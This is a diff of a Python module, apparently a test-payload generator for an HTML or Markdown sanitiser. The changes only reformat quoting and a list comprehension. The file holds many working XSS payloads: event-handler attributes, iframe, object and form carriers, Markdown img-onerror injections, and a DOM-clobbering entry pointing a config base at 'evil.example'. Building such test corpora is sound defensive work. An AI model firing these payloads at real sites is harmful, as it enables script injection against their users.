@@ -45,7 +45,7 @@ _HANDLED = (
 )
 _HANDLERS = (
     "onload=alert({n}) onerror=alert({n})",
-    'onfocus="alert({n})" onclick=\'alert({n})\'',
+    "onfocus=\"alert({n})\" onclick='alert({n})'",
     "ontoggle=&#97;lert({n}) onanimationstart=alert({n}) onbegin=alert({n}) onstart=alert({n})",
     "/oNeRrOr=alert({n})// /OnLoAd\n=\nalert({n})",
 )
@@ -68,7 +68,7 @@ _ADDRESSES = (
 )
 _CARRIERS = (
     '<a href="{0}">a</a>',
-    "<iframe src=\"{0}\"></iframe>",
+    '<iframe src="{0}"></iframe>',
     '<object data="{0}"></object>',
     '<embed src="{0}">',
     '<form action="{0}"><button formaction="{0}">a</button></form>',
@@ -144,18 +144,18 @@ _MARKDOWN = (
     '![a" onerror="alert({n})](x.png "b\\" onerror=\\"alert({n})")',
     "![<img src=x onerror=alert({n})>](x.png)",
     '[a](b "c\\"><img src=x onerror=alert({n})>")',
-    "[a](b.md#\"><img src=x onerror=alert({n})>)",
+    '[a](b.md#"><img src=x onerror=alert({n})>)',
     "```<img src=x onerror=alert({n})>\na\n```",
     "`<img src=x onerror=alert({n})>`",
     "    <img src=x onerror=alert({n})>",
     "| <img src=x onerror=alert({n})> | b |\n|---|---|\n| c | <img src=x onerror=alert({n})> |",
     "<div markdown='1' onclick=alert({n})>\n\n[a](javascript:alert({n}))\n\n</div>",
     "a\n:   <img src=x onerror=alert({n})>",
-    "[@a\"><img src=x onerror=alert({n})>]",
+    '[@a"><img src=x onerror=alert({n})>]',
     "/// key-points\n<img src=x onerror=alert({n})>\n///",
     "/// key-points\n    attrs: {{onclick: alert({n})}}\na\n///",
-    "/// certainty | \"><img src=x onerror=alert({n})>\na\n///",
-    "<p id=__config>{{\"base\": \"//evil.example\"}}</p><form name=a><input name=body></form>",
+    '/// certainty | "><img src=x onerror=alert({n})>\na\n///',
+    '<p id=__config>{{"base": "//evil.example"}}</p><form name=a><input name=body></form>',
 )
 _FETCHES = (
     "<img src='{0}'>",
@@ -200,7 +200,10 @@ _HOSTS = (
 def payloads() -> list[str]:
     """Every payload; the n-th calls `alert(n)`, or fetches `…/n`."""
     # By replacement, as the payloads are full of braces.
-    return [template.replace("{n}", str(number)).replace("{{", "{").replace("}}", "}") for number, template in enumerate(_templates())]
+    return [
+        template.replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")
+        for number, template in enumerate(_templates())
+    ]
 
 
 def _templates() -> Iterator[str]:
